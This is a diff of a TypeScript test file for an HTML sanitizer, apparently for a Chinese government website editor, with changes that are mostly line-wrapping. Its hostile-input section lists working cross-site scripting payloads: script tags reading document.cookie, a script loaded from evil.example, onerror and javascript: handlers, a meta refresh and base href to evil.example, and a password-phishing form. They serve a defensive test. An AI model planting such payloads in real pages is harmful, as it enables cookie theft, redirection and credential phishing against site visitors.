@@ -22,7 +22,15 @@ describe("sanitizeBody — what is kept", () => {
   });
 
   it("keeps http(s), mailto, tel and relative links", () => {
-    for (const href of ["https://www.gov.cn/zhengce/", "http://example.gov.cn/a?x=1&amp;y=2", "/files/a.pdf", "../a.html", "#section-2", "mailto:gkb@example.gov.cn", "tel:0571-12345"]) {
+    for (const href of [
+      "https://www.gov.cn/zhengce/",
+      "http://example.gov.cn/a?x=1&amp;y=2",
+      "/files/a.pdf",
+      "../a.html",
+      "#section-2",
+      "mailto:gkb@example.gov.cn",
+      "tel:0571-12345",
+    ]) {
       expect(sanitizeBody(`<a href="${href}">链接</a>`)).toBe(`<a href="${href}">链接</a>`);
     }
   });
@@ -37,7 +45,9 @@ describe("sanitizeBody — what is kept", () => {
 
   it("keeps text-align and a few typographic styles, drops the rest", () => {
     expect(sanitizeBody('<p style="text-align:center">标题</p>')).toBe('<p style="text-align:center">标题</p>');
-    expect(sanitizeBody('<p style="text-indent:2em;text-align:justify">正文</p>')).toBe('<p style="text-indent:2em;text-align:justify">正文</p>');
+    expect(sanitizeBody('<p style="text-indent:2em;text-align:justify">正文</p>')).toBe(
+      '<p style="text-indent:2em;text-align:justify">正文</p>',
+    );
     expect(sanitizeBody('<span style="font-weight:bold;text-decoration:underline">x</span>')).toBe(
       '<span style="font-weight:bold;text-decoration:underline">x</span>',
     );
@@ -52,7 +62,9 @@ describe("sanitizeBody — what is kept", () => {
   });
 
   it("maps Word's b/i/h1/h5/h6 onto the allow-list", () => {
-    expect(sanitizeBody("<h1>题</h1><b>粗</b><i>斜</i><h5>五</h5><h6>六</h6>")).toBe("<h2>题</h2><strong>粗</strong><em>斜</em><h4>五</h4><h4>六</h4>");
+    expect(sanitizeBody("<h1>题</h1><b>粗</b><i>斜</i><h5>五</h5><h6>六</h6>")).toBe(
+      "<h2>题</h2><strong>粗</strong><em>斜</em><h4>五</h4><h4>六</h4>",
+    );
   });
 
   it("drops unknown tags but keeps their text (pasted Word markup)", () => {
@@ -78,8 +90,8 @@ describe("sanitizeBody — what is kept", () => {
 
 describe("sanitizeBody — hostile input", () => {
   const vectors: [string, string][] = [
-    ["script tag", '<p>ok</p><script>alert(document.cookie)</script>'],
-    ["script, upper case and attributes", '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
+    ["script tag", "<p>ok</p><script>alert(document.cookie)</script>"],
+    ["script, upper case and attributes", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"],
     ["script split by a nested tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
     ["img onerror", '<img src="x" onerror="alert(1)">'],
     ["unquoted event handler", "<img src=x onerror=alert(1)//>"],
@@ -104,14 +116,17 @@ describe("sanitizeBody — hostile input", () => {
     ["style tag", "<style>body{display:none}</style><p>x</p>"],
     ["style attribute expression", '<p style="width:expression(alert(1))">x</p>'],
     ["style attribute url()", '<p style="background-image:url(javascript:alert(1))">x</p>'],
-    ["link and meta", '<link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://evil.example">'],
+    [
+      "link and meta",
+      '<link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+    ],
     ["base href", '<base href="https://evil.example/">'],
     ["form phishing", '<form action="https://evil.example"><input name="password"><button>登录</button></form>'],
     ["template", "<template><img src=x onerror=alert(1)></template>"],
     ["noscript trick", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
     ["comment trick", "<!--<img src=x onerror=alert(1)>-->"],
     ["attribute breakout", '<a href="/x" title="a" onclick="alert(1)">x</a><p title="x" " onclick="alert(1)">y</p>'],
-    ["textarea breakout", '<textarea><script>alert(1)</script></textarea>'],
+    ["textarea breakout", "<textarea><script>alert(1)</script></textarea>"],
     ["cdata", "<![CDATA[<script>alert(1)</script>]]>"],
   ];
 
@@ -131,7 +146,9 @@ describe("sanitizeBody — hostile input", () => {
   });
 
   it("drops the content of script, style, iframe and template elements entirely", () => {
-    expect(sanitizeBody("<p>a</p><script>var secret=1</script><style>p{}</style><iframe>fallback</iframe><template>t</template>")).toBe("<p>a</p>");
+    expect(sanitizeBody("<p>a</p><script>var secret=1</script><style>p{}</style><iframe>fallback</iframe><template>t</template>")).toBe(
+      "<p>a</p>",
+    );
   });
 });
 
